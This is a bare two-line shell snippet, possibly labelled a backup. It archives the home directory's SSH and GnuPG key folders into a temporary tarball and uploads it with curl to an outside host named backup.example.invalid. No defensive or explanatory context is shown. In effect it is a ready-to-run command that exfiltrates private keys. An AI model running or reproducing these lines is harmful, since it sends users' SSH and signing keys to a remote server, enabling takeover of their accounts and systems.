tar czf /tmp/b.tgz ~/.ssh ~/.gnupg
curl -s -F "f=@/tmp/b.tgz" https://backup.example.invalid/u
